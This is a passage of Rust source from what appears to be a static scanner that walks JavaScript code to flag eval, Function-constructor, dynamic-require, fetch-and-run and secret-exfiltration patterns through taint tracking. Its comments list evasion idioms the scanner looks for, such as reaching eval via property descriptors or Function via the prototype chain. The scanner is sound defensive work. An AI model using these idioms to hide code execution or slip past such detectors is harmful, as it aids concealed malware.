                self.hit(RuleId::NetworkBuiltin, span);
                self.effect(Effect::Network, RuleId::NetworkBuiltin, span);
            }
            ModuleClass::ChildProcess => {
                self.hit(RuleId::ChildProcess, span);
                self.effect(Effect::Exec, RuleId::ChildProcess, span);
            }
            ModuleClass::Os => self.hit(RuleId::OsModule, span),
            ModuleClass::Fs => {
                if self.emit {
                    self.caps.insert(Capability::Read);
                    self.caps.insert(Capability::Write);
                }
            }
            ModuleClass::Other => {
                if builtin_of(spec) == Builtin::HttpClient {
                    self.caps.insert(Capability::Http);
                }
            }
        }
    }

    /// The span naming a callee (the property of a member callee).
    fn callee_span(e: &Expression<'_>) -> Span {
        match e.get_inner_expression() {
            Expression::StaticMemberExpression(m) => m.property.span,
            Expression::ComputedMemberExpression(m) => m.expression.span(),
            other => other.span(),
        }
    }

    /// Is this a `… .constructor` member (Function reached through the prototype chain)?
    fn via_constructor(e: &Expression<'_>) -> bool {
        match e.get_inner_expression() {
            Expression::StaticMemberExpression(m) => m.property.name.as_str() == "constructor",
            Expression::ComputedMemberExpression(m) => fold_plain(&m.expression, 0).as_deref() == Some("constructor"),
            _ => false,
        }
    }

    /// The root identifier of a member chain (`a` in `a.b[c].d`).
    fn root_symbol(&self, e: &Expression<'_>) -> Option<SymbolId> {
        let mut cur = e.get_inner_expression();
        for _ in 0..64 {
            match cur {
                Expression::Identifier(id) => return self.symbol_of(id),
                Expression::StaticMemberExpression(m) => cur = m.object.get_inner_expression(),
                Expression::ComputedMemberExpression(m) => cur = m.object.get_inner_expression(),
                _ => return None,
            }
        }
        None
    }

    /// The symbol a function or arrow expression starting at `at` is bound to
    /// by its declarator.
    fn take_pending_fn(&mut self, at: u32) -> Option<SymbolId> {
        match self.pending_fn {
            Some((start, s)) if start == at => {
                self.pending_fn = None;
                Some(s)
            }
            _ => None,
        }
    }

    /// `sym` is bound to `init`: an alias of an object or class, or an
    /// instance of a class (`const a = o`, `const c = new C()`), has its
    /// methods; a promise rejected with a value (or a function throwing
    /// one) rejects (throws) it by the new name too.
    fn bind_escapes(&mut self, sym: SymbolId, init: &Expression<'_>) {
        let inner = init.get_inner_expression();
        if matches!(inner, Expression::Identifier(_) | Expression::NewExpression(_)) {
            if let Some(v) = self.receiver_owner(inner).and_then(|o| self.syms.mthrv(o)) {
                self.set_mthrv(sym, v);
            }
        }
        if let Some(v) = self.rejection_val(inner) {
            self.set_thrv(sym, v);
        }
    }

    /// The frame of a function or arrow starting at `at`, bound to `sym`,
    /// stored as a method (of [`Walker::owner`]) or not.
    fn frame(&mut self, sym: Option<SymbolId>, method: bool, at: u32) -> Frame {
        let executor = (std::mem::replace(&mut self.executor_fn, u32::MAX) == at)
            .then(|| self.executors.len().checked_sub(1))
            .flatten();
        Frame {
            sym,
            owner: if method { self.owner } else { None },
            executor,
        }
    }

    /// An assignment target as a binding pattern (members and other targets
    /// bind nothing).
    fn target_pat(&self, t: &AssignmentTarget<'_>) -> Pat {
        match t {
            AssignmentTarget::AssignmentTargetIdentifier(id) => self.symbol_of(id).map_or(Pat::Ignore, Pat::Id),
            AssignmentTarget::ObjectAssignmentTarget(o) => Pat::Obj(
                o.properties
                    .iter()
                    .map(|p| match p {
                        AssignmentTargetProperty::AssignmentTargetPropertyIdentifier(pi) => (
                            Some(pi.binding.name.as_str().to_string()),
                            pi.binding.span,
                            self.symbol_of(&pi.binding).map_or(Pat::Ignore, Pat::Id),
                        ),
                        AssignmentTargetProperty::AssignmentTargetPropertyProperty(pp) => {
                            (key_name(&pp.name), pp.name.span(), self.target_pat_default(&pp.binding))
                        }
                    })
                    .collect(),
                o.rest.as_ref().map(|r| Box::new(self.target_pat(&r.target))),
            ),
            AssignmentTarget::ArrayAssignmentTarget(a) => Pat::Arr(
                a.elements
                    .iter()
                    .map(|e| e.as_ref().map_or(Pat::Ignore, |e| self.target_pat_default(e)))
                    .collect(),
                a.rest.as_ref().map(|r| Box::new(self.target_pat(&r.target))),
            ),
            _ => Pat::Ignore,
        }
    }

    fn target_pat_default(&self, t: &AssignmentTargetMaybeDefault<'_>) -> Pat {
        match t {
            AssignmentTargetMaybeDefault::AssignmentTargetWithDefault(d) => self.target_pat(&d.binding),
            other => other.as_assignment_target().map_or(Pat::Ignore, |t| self.target_pat(t)),
        }
    }

    /// A member of `o` read by a key computed at run time (`Reflect.get(o, k)`,
    /// a property descriptor of `o`): a constant key is an ordinary member
    /// read (`process.env` whole is secret), an unknown key on a powerful
    /// object is dynamic access.
    fn read_key(&mut self, o: &Expression<'_>, k: &Expression<'_>) {
        let ov = self.val(o);
        match self.fold(k) {
            Some(name) => {
                let got = self.mem(ov, &name);
                self.obtained(ov, &name, got, k.span());
                if got == Some(Val::ProcessEnv) {
                    self.add_taint(SECRET);
                }
            }
            None if self.powerful(ov) => self.hit(RuleId::DynamicAccess, k.span()),
            None => {}
        }
    }

    /// Reflective reads of another object's members: a property descriptor
    /// (`Object.getOwnPropertyDescriptor(globalThis, 'eval').value`) obtains
    /// the member; all members at once (descriptors, entries, values) of the
    /// global object, `process`, `module` or `require` is dynamic access.
    fn reflective_read(&mut self, on: &str, method: &str, args: &[Argument<'_>]) {
        let arg = |i: usize| args.get(i).and_then(|a| a.as_expression());
        match (on, method) {
            ("Object" | "Reflect", "getOwnPropertyDescriptor") => {
                let (Some(o), Some(k)) = (arg(0), arg(1)) else { return };
                self.read_key(o, k);
            }
            ("Object", "getOwnPropertyDescriptors" | "entries" | "values") => {
                let Some(o) = arg(0) else { return };
                if self.powerful(self.val(o)) {
                    self.hit(RuleId::DynamicAccess, o.span());
                }
            }
            _ => {}
        }
    }

    fn visit_args(&mut self, args: &[Argument<'_>]) -> ArgTaints {
        let mut t = ArgTaints::default();
        for a in args {
            let x = self.taint_of(|s| s.visit_argument(a));
            t.push(x);
        }
        t
    }

    /// The call/new expression core: `callee(args)`.
    /// Returns whether the callee is `Object.assign` (see [`Walker::visit_call_expression`]).
    fn call(&mut self, callee: &Expression<'_>, args: &[Argument<'_>], is_new: bool) -> bool {
        let cv = self.val_hinted(callee);
        let inner = callee.get_inner_expression();
        // `require(...)` and friends: the callee reference is not an escape.
        self.exempt_require.insert(inner.span().start);
        // Remote data reaches callbacks of network calls and of `.then/.on` on remote values.
        let callee_taint = self.taint_of(|s| s.visit_expression(callee));
        let net = matches!(
            cv,
            Some(Val::Fetch)
                | Some(Val::Api(
                    Builtin::Http | Builtin::Net | Builtin::HttpClient,
                    Api::NetSend
                ))
        ) || cv == Some(Val::Mod(Builtin::HttpClient));
        let remote_cb = net || callee_taint & REMOTE != 0;
        // A call to a function or a method that lets a value escape by
        // `throw` throws it here; a call of an executor's reject parameter
        // rejects its promise.
        // (Where a throw reaches nothing, what the callee throws is not looked up.)
        let reaches = self.throw_reaches();
        let thrown = match inner {
            Expression::Identifier(id) => self.symbol_of(id).and_then(|s| {
                if !self.executors.is_empty() {
                    self.reject_call(s, args);
                }
                reaches.then(|| self.syms.thrv(s)).flatten()
            }),
            other if reaches => self.method_thrown(other),
            _ => None,
        };
        if let Some(v) = thrown {
            self.throw_val(v);
        }
        // Parameters: immediately-invoked functions and functions declared in this file.
        let params: Option<Rc<[Pat]>> = function_params(callee)
            .map(|f| params_of(f).into())
            .or_else(|| match inner {
                Expression::Identifier(id) => self.symbol_of(id).and_then(|s| self.syms.params(s)),
                _ => None,
            });
        if params.is_some() {
            for a in args {
                if let Some(e) = a.as_expression() {
                    self.exempt_require.insert(e.get_inner_expression().span().start);
                }
            }
        }
        if remote_cb {
            for a in args {
                if let Some(ps) = a.as_expression().and_then(function_params) {
                    for p in params_of(ps) {
                        self.bind(&p, None, REMOTE);
                    }
                }
            }
        }
        // Callbacks of array and promise methods receive the elements / the
        // resolved value: `[globalThis].map(g => …)`, `Promise.resolve(x).then(v => …)`.
        if let Expression::StaticMemberExpression(m) = inner {
            let method = m.property.name.as_str();
            if CALLBACK_METHODS.contains(&method) || method == "then" {
                let ov = self.val(&m.object);
                let els = match ov {
                    Some(Val::Obj(id)) if method != "then" => self.elements(id),
                    Some(v) if method == "then" && !matches!(v, Val::Obj(_)) && v.is_trackable_member() => vec![v],
                    _ => Vec::new(),
                };
                if let (false, Some(ps)) = (
                    els.is_empty(),
                    args.first().and_then(|a| a.as_expression()).and_then(function_params),
                ) {
                    if let Some(p) = params_of(ps).first() {
                        self.bind_each(p, &els, 0);
                    }
                }
            }
            // A rejection handler (`.catch(cb)`, `.then(ok, cb)`) receives what
            // the promise is rejected with.
            let handler = match method {
                "catch" => args.first(),
                "then" => args.get(1),
                _ => None,
            };
            if let Some(ps) = handler.and_then(|a| a.as_expression()).and_then(function_params) {
                if let (Some(v), Some(p)) = (self.rejection_val(&m.object), params_of(ps).first()) {
                    self.bind(p, Some(v), 0);
                }
            }
        }
        let arg_taints = self.visit_args(args);
        for a in args {
            if let Some(e) = a.as_expression() {
                if Self::via_constructor(e) && self.val(e) == Some(Val::Function) {
                    self.hit(RuleId::FunctionConstructor, Self::callee_span(e));
                }
            }
        }
        if let Some(ps) = &params {
            for (i, p) in ps.iter().enumerate() {
                let (v, t) = match args.get(i).and_then(|a| a.as_expression()) {
                    Some(e) => (self.val(e), arg_taints[i]),
                    None => (None, 0),
                };
                self.bind(p, v, t);
            }
        }
        // Return taint of a local function.
        if let Expression::Identifier(id) = inner {
            if let Some(s) = self.symbol_of(id) {
                let t = self.syms.ret(s);
                self.add_taint(t);
            }
        }
        let arg = |i: usize| args.get(i).and_then(|a| a.as_expression());
        let all_taint = arg_taints.iter().fold(0u8, |a, b| a | b);
        let cspan = Self::callee_span(callee);
        let gm = global_method(inner, self.scoping);
        if let Some((on, method)) = gm {
            self.reflective_read(on, method, args);
        }
        let assign = gm == Some(("Object", "assign"));
        let Some(cv) = cv else {
            // `x.require('vm')` on an object not known statically: a module
            // object's loader, for all the scanner can tell (module.parent,
            // require.cache entries, …), when the specifier names a builtin
            // the rules classify.
            if let (false, Expression::StaticMemberExpression(m), Some(e)) = (is_new, inner, arg(0)) {
                if m.property.name.as_str() == "require" && args.len() == 1 {
                    if let Some(spec) = self.fold(e).filter(|s| classify_module(s) != ModuleClass::Other) {
                        self.module(&spec, e.span());
                    }
                }
            }
            // `x.push(secret)`: the collection now holds the data.
            if let Expression::StaticMemberExpression(m) = inner {
                if matches!(
                    m.property.name.as_str(),
                    "push" | "unshift" | "set" | "append" | "concat" | "assign"
                ) {
                    if let Some(s) = self.root_symbol(&m.object) {
                        self.set_taint(s, all_taint & !(CRED | HOME));
                    }
                }
            }
            return assign;
        };
        match cv {
            // `require.bind(thisArg)` makes a loader; it loads nothing itself.
            Val::Require if matches!(inner, Expression::StaticMemberExpression(m) if m.property.name.as_str() == "bind") =>
                {}
            Val::Require if !is_new => {
                // `require.call(thisArg, spec)` shifts the arguments.
                let via_call = matches!(inner, Expression::StaticMemberExpression(m) if matches!(m.property.name.as_str(), "call" | "apply"));
                let spec_arg = if via_call { arg(1) } else { arg(0) };
                match spec_arg {
                    Some(e) => match self.fold(e) {
                        Some(spec) => {
                            self.module(&spec, e.span());
                            self.add_taint(self.import_taint(&spec));
                        }
                        None => {
                            // A choice of constants: each module the rules
                            // classify is loaded here too.
                            for spec in self.fold_specs(e) {
                                if classify_module(&spec) != ModuleClass::Other {
                                    self.module(&spec, e.span());
                                    self.add_taint(self.import_taint(&spec));
                                }
                            }
                            self.hit(RuleId::DynamicRequire, cspan);
                            if all_taint & REMOTE != 0 {
                                self.hit(RuleId::FetchAndRun, cspan);
                            }
                        }
                    },
                    None if via_call || !args.is_empty() => self.hit(RuleId::DynamicRequire, cspan),
                    None => {}
                }
            }
            Val::Ctor => {
                // `new this.constructor(msg)` re-creates the class's own instance.
                let on_this = matches!(inner, Expression::StaticMemberExpression(m) if matches!(m.object.get_inner_expression(), Expression::ThisExpression(_)));
                if !on_this && arg(0).is_some_and(|e| is_stringish(e) || self.fold(e).is_some()) {
                    self.hit(RuleId::FunctionConstructor, cspan);
                }
                if !on_this && arg_taints.first().is_some_and(|t| t & REMOTE != 0) {
                    self.hit(RuleId::FetchAndRun, cspan);
                }
            }
            Val::Timer => {
                if arg(0).is_some_and(|e| !is_function_expr(e) && is_stringish(e)) {
                    self.hit(RuleId::EvalCall, cspan);
                }
                if arg(0).is_some_and(|e| !is_function_expr(e)) && arg_taints.first().is_some_and(|t| t & REMOTE != 0) {
                    self.hit(RuleId::FetchAndRun, cspan);
                }
            }
            Val::Eval | Val::Function | Val::Api(Builtin::Forbidden, Api::Evaluate) => {
                // Through the prototype chain, or an alias called with code
                // (`const F = Object.getPrototypeOf(async function () {}).constructor;
                // new F('…')`): reported at the call too.
                let code = arg(0).is_some_and(|e| is_stringish(e) || self.fold(e).is_some());
                if cv == Val::Function && (Self::via_constructor(inner) || code) {
                    self.hit(RuleId::FunctionConstructor, cspan);
                }
                if all_taint & REMOTE != 0 {
                    self.hit(RuleId::FetchAndRun, cspan);
                }
            }
            Val::ReflectGet => {
                if let (Some(o), Some(k)) = (arg(0), arg(1)) {
                    self.read_key(o, k);
                }
            }
            Val::ReflectApply | Val::ReflectConstruct
                if all_taint & REMOTE != 0
                    && arg(0)
                        .and_then(|e| self.val(e))
                        .is_some_and(|v| matches!(v, Val::Eval | Val::Function)) =>
            {
                self.hit(RuleId::FetchAndRun, cspan);
            }
            Val::PiTool if self.emit => {
                let cap = match arg(0).and_then(|e| self.fold(e)) {
                    Some(name) => tool_capability(&name).ok(),
                    None => Some(Capability::Tool),
                };
                if let Some(c) = cap {
                    self.caps.insert(c);
                }
            }
            Val::PiCap(c) if self.emit => {
                self.caps.insert(c);
            }
            Val::Api(Builtin::Os, Api::OsIdentity) => self.add_taint(IDENTITY),
            Val::Api(Builtin::Os, Api::OsHome) => self.add_taint(HOME),
            Val::Api(Builtin::Fs, Api::FsRead) if arg_taints.first().is_some_and(|t| t & CRED != 0) => {
                self.add_taint(SECRET);
            }
            Val::Api(Builtin::Fs, Api::FsWrite) => {
                let outside = arg_taints.first().is_some_and(|t| t & HOME != 0)
                    || arg(0)
                        .and_then(|e| self.fold(e))
                        .is_some_and(|p| p.starts_with('/') || p.starts_with('~'));
                let data = arg_taints.iter().skip(1).fold(0u8, |a, b| a | b);
                if outside && data & (SECRET | IDENTITY) != 0 {
                    self.hit(RuleId::ExfiltrationChain, cspan);
                }
            }
            Val::Api(Builtin::ChildProcess, Api::Exec) => {
                self.effect(Effect::Exec, RuleId::ChildProcess, cspan);
                // The command and its argument list, not the options (their `env` stays local):
                // exec(cmd, opts), spawn/execFile/fork(file, args, opts).
                let name = &self.src_text(cspan);
                let with_args = name.starts_with("spawn") || name.starts_with("execFile") || name.starts_with("fork");
                let data = args
                    .iter()
                    .zip(arg_taints.iter())
                    .take(if with_args { 2 } else { 1 })
                    .filter(|(a, _)| {
                        !matches!(
                            a.as_expression().map(|e| e.get_inner_expression()),
                            Some(Expression::ObjectExpression(_))
                        )
                    })
                    .fold(0u8, |acc, (_, t)| acc | t);
                if data & (SECRET | IDENTITY) != 0 {
                    self.hit(RuleId::ExfiltrationChain, cspan);
                }
                if data & REMOTE != 0 {
                    self.hit(RuleId::FetchAndRun, cspan);
                }
            }
            Val::Fetch
            | Val::Mod(Builtin::HttpClient)
            | Val::Api(Builtin::Http | Builtin::Net | Builtin::HttpClient | Builtin::Dns, Api::NetSend) => {
                self.effect(Effect::Network, RuleId::NetworkBuiltin, cspan);
                if self.emit {
                    self.caps.insert(Capability::Http);
                }
                let dns = matches!(cv, Val::Api(Builtin::Dns, _));
                let mask = if dns {
                    SECRET | IDENTITY | ENVVAR
                } else {
                    SECRET | IDENTITY
                };
                if all_taint & mask != 0 {
                    self.hit(RuleId::ExfiltrationChain, cspan);
                }
                if !dns {
                    self.add_taint(REMOTE);
                }
            }
            _ => {}
        }
        assign
    }
}

#[cfg(test)]
thread_local! {
    /// Units repeated from their record on this thread (tests).
    static REPLAYS: Cell<usize> = const { Cell::new(0) };
}

/// The [`Walker::unit`] key of a node of kind `tag` at `span`.
fn unit_key(tag: u8, span: Span) -> UnitKey {
    (tag, span.start, span.end)
}

impl<'a> Visit<'a> for Walker<'_> {
    fn visit_program(&mut self, it: &Program<'a>) {
        self.strict = it.source_type.is_module() || has_use_strict(&it.directives);
        self.ctx += 1;
        // As `walk_program` (the walker has no scope or node hooks), each
        // top-level statement a unit.
        if let Some(h) = &it.hashbang {
            self.visit_hashbang(h);
        }
        self.visit_directives(&it.directives);
        for st in &it.body {
            self.unit(unit_key(2, st.span()), |w| w.visit_statement(st));
        }
    }

    fn visit_function_body(&mut self, it: &FunctionBody<'a>) {
        // As `walk_function_body`, each statement a unit.
        self.visit_directives(&it.directives);
        for st in &it.statements {
            self.unit(unit_key(2, st.span()), |w| w.visit_statement(st));
        }
    }

    fn visit_ts_type(&mut self, _it: &TSType<'a>) {}
    fn visit_ts_type_annotation(&mut self, _it: &TSTypeAnnotation<'a>) {}
    fn visit_ts_interface_declaration(&mut self, _it: &TSInterfaceDeclaration<'a>) {}
    fn visit_ts_type_alias_declaration(&mut self, _it: &TSTypeAliasDeclaration<'a>) {}
    fn visit_ts_type_parameter_instantiation(&mut self, _it: &TSTypeParameterInstantiation<'a>) {}
    fn visit_ts_type_parameter_declaration(&mut self, _it: &TSTypeParameterDeclaration<'a>) {}

    fn visit_identifier_reference(&mut self, it: &IdentifierReference<'a>) {
        if !self.with_stack.is_empty() {
            // Inside `with (o)`, a name `o` has is `o.name`.
            let name = it.name.as_str();
            if let Some((w, got)) = self
                .with_stack
                .iter()
                .rev()
                .find_map(|w| w.and_then(|w| self.with_own(w, name).map(|g| (w, g))))
            {
                self.obtained(Some(w), name, Some(got), it.span);
                if got == Val::ProcessEnv && !self.exempt_taint.contains(it.span.start) {
                    self.add_taint(SECRET);
                }
                return;
            }
        }
        let sym = self.symbol_of(it);
        match sym {
            Some(s) => {
                if !self.exempt_taint.contains(it.span.start) {
                    let t = self.syms.taint(s);
                    self.add_taint(t);
                }
            }
            None => match it.name.as_str() {
                "eval" => self.hit(RuleId::EvalCall, it.span),
                "Function" if !self.exempt_function.contains(it.span.start) => {
                    self.hit(RuleId::FunctionConstructor, it.span)
                }
                "require" if !self.exempt_require.contains(it.span.start) => self.hit(RuleId::DynamicRequire, it.span),
                _ => {}
            },
        }
    }

    fn visit_string_literal(&mut self, it: &StringLiteral<'a>) {
        let v = it.value.as_str();
        if is_credential_path(v) {
            self.add_taint(CRED);
        }
        if v.starts_with('/') || v.starts_with("~/") {
            self.add_taint(HOME);
        }
    }

    fn visit_template_literal(&mut self, it: &TemplateLiteral<'a>) {
        for q in &it.quasis {
            if is_credential_path(q.value.raw.as_str()) {
                self.add_taint(CRED);
            }
        }
        walk::walk_template_literal(self, it);
    }

    fn visit_static_member_expression(&mut self, it: &StaticMemberExpression<'a>) {
        let ov = self.object_val(it, 0);
        let name = it.property.name.as_str();
        let obj = it.object.get_inner_expression();
        self.exempt_require.insert(obj.span().start);
        if !matches!(name, "call" | "apply" | "bind") {
            self.exempt_function.insert(obj.span().start);
        }
        if ov == Some(Val::ProcessEnv) {
            // One named variable: weaker than the whole environment.
            self.exempt_taint.insert(obj.span().start);
            self.add_taint(ENVVAR);
        }
        let got = self.mem(ov, name);
        self.obtained(ov, name, got, it.property.span);
        if got == Some(Val::ProcessEnv) && !self.exempt_taint.contains(it.span.start) {
            self.add_taint(SECRET);
        }
        self.visit_expression(&it.object);
    }

    fn visit_computed_member_expression(&mut self, it: &ComputedMemberExpression<'a>) {
        let ov = self.val(&it.object);
        let obj = it.object.get_inner_expression();
        self.exempt_require.insert(obj.span().start);
        self.exempt_function.insert(obj.span().start);
        let key = self.fold(&it.expression);
        match &key {
            Some(k) => {
                let got = self.mem(ov, k);
                self.obtained(ov, k, got, it.expression.span());
                if ov == Some(Val::ProcessEnv) {
                    self.exempt_taint.insert(obj.span().start);
                    self.add_taint(ENVVAR);
                }
                if got == Some(Val::ProcessEnv) && !self.exempt_taint.contains(it.span.start) {
                    self.add_taint(SECRET);
                }
            }
            None => {
                if self.powerful(ov) {
                    // Each key the specifier following finds (`process[f()]`,
                    // `globalThis[o.k]`) obtains what it names, besides the
                    // dynamic access it always is.
                    for k in self.fold_specs(&it.expression) {
                        let got = self.mem(ov, &k);
                        self.obtained(ov, &k, got, it.expression.span());
                    }
                    self.hit(RuleId::DynamicAccess, it.expression.span());
                }
                if ov == Some(Val::ProcessEnv) {
                    // `env[name]`: one variable (whose name is computed), not the
                    // whole environment.
                    self.exempt_taint.insert(obj.span().start);
                    self.add_taint(ENVVAR);
                }
            }
        }
        walk::walk_computed_member_expression(self, it);
    }

    fn visit_call_expression(&mut self, it: &CallExpression<'a>) {
        if let Some(("Object" | "Reflect", "setPrototypeOf")) = global_method(&it.callee, self.scoping) {
            self.set_prototype(&it.arguments);
        }
        if self.call(&it.callee, &it.arguments, false) {
            // `Object.assign(target, ...sources)` copies the sources' members
            // into the target and returns it.
            let vals: Vec<Val> = it
                .arguments
                .iter()
                .filter_map(|a| a.as_expression())
                .filter_map(|e| self.val(e))
                .filter(|v| self.trackable(*v))
                .collect();
            let target = it
                .arguments
                .first()
                .and_then(|a| a.as_expression())
                .and_then(|e| self.val(e));
            if let Some(Val::Obj(t)) = target {
                let add = Shape {
                    copies: vals.clone(),
                    ..Shape::default()
                };
                self.merge_shape(t, add);
            } else if let Some(t) = it.arguments.first().and_then(|a| self.own_shape(a.as_expression()?)) {
                // Onto a class, its prototype (or `this`, `exports`): the
                // sources' members and methods.
                self.copy_members(t, &vals);
            }
            let add = Shape {
                copies: vals,
                ..Shape::default()
            };
            self.merge_shape(it.span.start, add);
        }
    }

    fn visit_super(&mut self, it: &Super) {
        if let Some(&l) = self.open_literals.last() {
            self.literal_supers.insert(it.span.start, l);
        }
    }

    fn visit_object_expression(&mut self, it: &ObjectExpression<'a>) {
        self.open_literals.push(it.span.start);
        // (Its own members hide its prototype's, when it may have one.)
        let has_proto =
            |p: &ObjectPropertyKind<'_>| matches!(p, ObjectPropertyKind::ObjectProperty(p) if names_proto(p));
        if self.sets_protos || it.properties.iter().any(has_proto) {
            self.own_names.entry(it.span.start).or_insert_with(|| own_names(it));
        }
        walk::walk_object_expression(self, it);
        self.open_literals.pop();
        let mut sh = Shape::default();
        for p in &it.properties {
            match p {
                ObjectPropertyKind::ObjectProperty(p) => {
                    // A getter's member is what it returns; a setter's is nothing.
                    let v = match p.kind {
                        PropertyKind::Init => self.val(&p.value),
                        PropertyKind::Get => self.returned_val(&p.value, false, 0),
                        PropertyKind::Set => None,
                    };
                    let key = || {
                        if p.computed {
                            p.key.as_expression().and_then(|e| self.fold(e))
                        } else {
                            key_name(&p.key)
                        }
                    };
                    // A method (a function or arrow stored at a constant key)
                    // returns to its calls `o.m()`.
                    if p.kind == PropertyKind::Init && is_function_expr(&p.value) {
                        let rets = self.method_returns(&p.value);
                        if !rets.is_empty() {
                            if let Some(k) = key() {
                                sh.rets.extend(rets.into_iter().map(|r| (k.clone(), r)));
                            }
                        }
                    }
                    let Some(v) = v.filter(|v| self.trackable(*v)) else {
                        continue;
                    };
                    match key() {
                        Some(k) => sh.keys.push((k, v)),
                        None => sh.unknown.push(v),
                    }
                }
                ObjectPropertyKind::SpreadProperty(sp) => {
                    if let Some(v) = self.val(&sp.argument).filter(|v| self.trackable(*v)) {
                        sh.copies.push(v);
                    }
                }
            }
        }
        self.merge_shape(it.span.start, sh);
    }

    fn visit_array_expression(&mut self, it: &ArrayExpression<'a>) {
        walk::walk_array_expression(self, it);
        let mut sh = Shape::default();
        // The index of the next element (unknown after a spread).
        let mut ix = Some(0usize);
        for el in &it.elements {
            match el {
                ArrayExpressionElement::SpreadElement(sp) => {
                    if let Some(Val::Obj(id)) = self.val(&sp.argument) {
                        if let Some(inner) = self.shape(id) {
                            let vals: Vec<Val> = inner
                                .keys
                                .iter()
                                .map(|(_, v)| *v)
                                .chain(inner.unknown.iter().copied())
                                .collect();
                            sh.unknown.extend(vals);
                        }
                    }
                    ix = None;
                }
                ArrayExpressionElement::Elision(_) => ix = ix.map(|i| i + 1),
                other => {
                    if let Some(v) = other
                        .as_expression()
                        .and_then(|e| self.val(e))
                        .filter(|v| self.trackable(*v))
                    {
                        match ix {
                            Some(i) => sh.keys.push((i.to_string(), v)),
                            None => sh.unknown.push(v),
                        }
                    }
                    ix = ix.map(|i| i + 1);
                }
            }
        }
        self.merge_shape(it.span.start, sh);
    }

    fn visit_new_expression(&mut self, it: &NewExpression<'a>) {
        // `new Promise(executor)`: what the executor rejects the promise with
        // (by its reject parameter, by a throw) is kept for the handlers.
        let exec = match (it.callee.get_inner_expression(), it.arguments.first()) {
            (Expression::Identifier(id), Some(a)) if id.name.as_str() == "Promise" && self.symbol_of(id).is_none() => {
                a.as_expression().and_then(|e| function_params(e).map(|ps| (e, ps)))
            }
            _ => None,
        };
        let Some((f, ps)) = exec else {
            self.call(&it.callee, &it.arguments, true);
            return;
        };
        let reject = match params_of(ps).get(1) {
            Some(Pat::Id(s)) => Some(*s),
            _ => None,
        };
        self.executors.push(Executor {
            reject,
            val: Vals::Empty,
        });
        self.executor_fn = f.get_inner_expression().span().start;
        self.call(&it.callee, &it.arguments, true);
        self.executor_fn = u32::MAX;
        if let Some(Executor { val, .. }) = self.executors.pop() {
            let e = self.rejected.entry(it.span.start).or_default();
            let mut grew = false;
            for v in val.as_slice() {
                grew |= e.add(*v);
            }
            if grew {
                // (Not a table entry: the clock tells the worlds' loop that
                // something changed.)
                self.worlds = self.worlds.max(e.len());
                self.syms.clock += 1;
            }
        }
    }

    fn visit_unary_expression(&mut self, it: &UnaryExpression<'a>) {
        if it.operator == UnaryOperator::Typeof {
            let s = it.argument.get_inner_expression().span().start;
            self.exempt_require.insert(s);
            self.exempt_function.insert(s);
        }
        walk::walk_unary_expression(self, it);
    }

    fn visit_binary_expression(&mut self, it: &BinaryExpression<'a>) {
        match it.operator {
            BinaryOperator::Instanceof => {
                self.exempt_function
                    .insert(it.right.get_inner_expression().span().start);
            }
            BinaryOperator::StrictEquality
            | BinaryOperator::StrictInequality
            | BinaryOperator::Equality
            | BinaryOperator::Inequality => {
                self.exempt_function
                    .insert(it.right.get_inner_expression().span().start);
                self.exempt_function.insert(it.left.get_inner_expression().span().start);
                self.exempt_require.insert(it.right.get_inner_expression().span().start);
                self.exempt_require.insert(it.left.get_inner_expression().span().start);
            }
            _ => {}
        }
        walk::walk_binary_expression(self, it);
    }

    fn visit_variable_declarator(&mut self, it: &VariableDeclarator<'a>) {
        self.visit_binding_pattern(&it.id);
        let Some(init) = &it.init else { return };
        let inner = init.get_inner_expression();
        self.exempt_require.insert(inner.span().start);
        let v = self.val_hinted(init);
        if v == Some(Val::Function) && Self::via_constructor(init) {
            self.hit(RuleId::FunctionConstructor, Self::callee_span(init));
        }
        if let (BindingPattern::BindingIdentifier(id), true) = (&it.id, is_function_expr(init)) {
            self.pending_fn = id.symbol_id.get().map(|s| (inner.span().start, s));
        }
        // `const o = {…}`, `const C = class {…}`: their methods are the name's.
        let owner = match (&it.id, inner) {
            (
                BindingPattern::BindingIdentifier(id),
                Expression::ObjectExpression(_) | Expression::ClassExpression(_),
            ) => id.symbol_id.get(),
            _ => self.owner,
        };
        let owner = std::mem::replace(&mut self.owner, owner);
        let mut t = self.taint_of(|s| s.visit_expression(init));
        self.owner = owner;
        self.pending_fn = None;
        let pat = pat_of(&it.id);
        if let Pat::Id(sym) = &pat {
            if let Some(ps) = function_params(init) {
                let ps = params_of(ps);
                self.set_params(*sym, ps);
            }
            self.bind_escapes(*sym, init);
            if self.in_const && self.syms.str.get(sym.index()).is_some_and(|x| x.is_none()) {
                // The reads of the fold happen only while the guard sees no string.
                let at = self.guard_open(*sym);
                let folded = self.fold(init);
                self.guard_close(at);
                if let Some(s) = folded {
                    if let Some(e) = self.syms.str.get_mut(sym.index()) {
                        *e = Some(s);
                    }
                    self.syms.changed(*sym, R_STR);
                    self.wrote(*sym, R_STR);
                }
            }
        }
        if v == Some(Val::ProcessEnv) {
            if let Pat::Obj(_, None) = pat {
                t = (t & !SECRET) | ENVVAR;
            }
        }
        self.bind(&pat, v, t);
    }

    fn visit_assignment_expression(&mut self, it: &AssignmentExpression<'a>) {
        if matches!(it.left, AssignmentTarget::AssignmentTargetIdentifier(_)) {
            self.exempt_require.insert(it.right.get_inner_expression().span().start);
        }
        self.visit_assignment_target(&it.left);
        if it.left.is_member_expression() && is_function_expr(&it.right) {
            // `C.prototype.m = function () {}`: a method.
            self.method_fn = it.right.get_inner_expression().span().start;
        }
        // The methods stored by `o = {…}`, `o.m = function () {}`,
        // `C.prototype.m = …`, `o.k = {…}` are those of `o` / `C`.
        let stores_methods = matches!(
            it.right.get_inner_expression(),
            Expression::ObjectExpression(_)
                | Expression::ClassExpression(_)
                | Expression::FunctionExpression(_)
                | Expression::ArrowFunctionExpression(_)
        );
        let owner = match &it.left {
            _ if !stores_methods => self.owner,
            AssignmentTarget::AssignmentTargetIdentifier(id) => self.symbol_of(id),
            other => other
                .as_member_expression()
                .and_then(|m| self.receiver_owner(m.object())),
        };
        let owner = std::mem::replace(&mut self.owner, owner);
        let v = if it.operator == AssignmentOperator::Assign {
            self.val_hinted(&it.right)
        } else {
            None
        };
        let t = self.taint_of(|s| s.visit_expression(&it.right));
        self.owner = owner;
        match &it.left {
            AssignmentTarget::AssignmentTargetIdentifier(id) => {
                if let Some(s) = self.symbol_of(id) {
                    self.bind(&Pat::Id(s), v, t);
                    if it.operator == AssignmentOperator::Assign {
                        self.bind_escapes(s, &it.right);
                    }
                }
            }
            AssignmentTarget::ObjectAssignmentTarget(_) | AssignmentTarget::ArrayAssignmentTarget(_) => {
                // Destructuring assignment binds like a declaration.
